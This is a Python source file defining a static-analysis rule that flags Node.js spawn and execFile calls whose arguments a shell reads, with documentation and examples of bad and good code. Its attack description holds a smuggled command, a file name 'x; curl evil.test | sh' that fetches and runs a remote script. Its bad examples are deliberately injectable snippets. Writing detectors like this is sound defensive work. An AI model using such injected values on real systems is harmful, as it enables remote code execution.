"""Arguments that a shell reads although they are a list."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.syntax.around_javascript import (
    LANGUAGES,
    is_text,
    of,
    option,
    options,
    shaped,
)
from vetline_analyzers.syntax.rule import Hit, PatternRule, Report

if TYPE_CHECKING:
    from tree_sitter import Node

_SHELL = re.compile(r"(?:.*[/\\])?(?:ba|z|k|da|fi)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh")
_CALLS = ("spawn", "spawnSync", "execFile", "execFileSync")


def _check(hit: Hit) -> Report | None:
    program, listed = hit.argument(0), shaped(hit, hit.argument(1), "array")
    if program is None:
        return None
    shell = option(hit, options(hit), "shell")
    on = shell is not None and not is_text(hit, shell, "false", "undefined", "null")
    if on and _open(hit, program, listed):
        return Report(
            "shell: true joins these arguments into one command line, special characters and "
            "all: leave the option out."
        )
    name = hit.string(program)
    if name is not None and _SHELL.fullmatch(name) and listed is not None:
        scripts = [n for n in listed.named_children if n.type != "comment"]
        if any(not hit.constant(each) for each in scripts[:2]):
            return Report(
                "A shell runs this text, so characters in a value become commands: start the program "
                "itself with a list of arguments."
            )
    return None


def _open(hit: Hit, program: Node, listed: Node | None) -> bool:
    """Whether the program or one of its arguments is known only at run time."""
    if not hit.constant(program) and hit.built(program):
        return True
    return listed is not None and not hit.constant(listed)


RULE = PatternRule(
    id="javascript/shell-option",
    title="Arguments that a shell reads",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=(78, 77, 88),
    page="""
`spawn` and `execFile` hand their arguments to a program one by one, unless `shell: true` is given: then they
are joined with blanks and read by a shell, which is deprecated since Node 24. Starting `sh -c` with a text
put together does the same. A semicolon in a value begins a command.
""",
    attack="Names a file `x; curl evil.test | sh` and has it processed.",
    advice='Leave `shell` out: `spawn("git", ["show", name])`.',
    bad=(
        """\
const { spawn } = require("child_process");

spawn("git", ["show", name], { shell: true });
""",
        """\
import { spawnSync } from "node:child_process";

function pack(folder) {
  const how = { shell: "/bin/bash", cwd: folder };
  return spawnSync("tar", ["-cf", `${folder}.tar`, folder], how);
}
""",
        """\
const cp = require("child_process");

cp.execFile("sh", ["-c", "convert " + file]);
""",
    ),
    good=(
        """\
const { spawn } = require("child_process");

spawn("git", ["show", name]);
""",
        """\
import { spawnSync } from "node:child_process";

spawnSync("npm", ["run", "build"], { shell: true });
""",
        """\
const cp = require("child_process");

cp.execFile("sh", ["install.sh", "--quiet"]);
""",
    ),
    url="https://nodejs.org/api/child_process.html#child_processspawncommand-args-options",
    language="javascript",
    languages=LANGUAGES,
    names=(*of("child_process", *_CALLS), *_CALLS, *of("execa", ""), *of("cross-spawn", "")),
    check=_check,
)
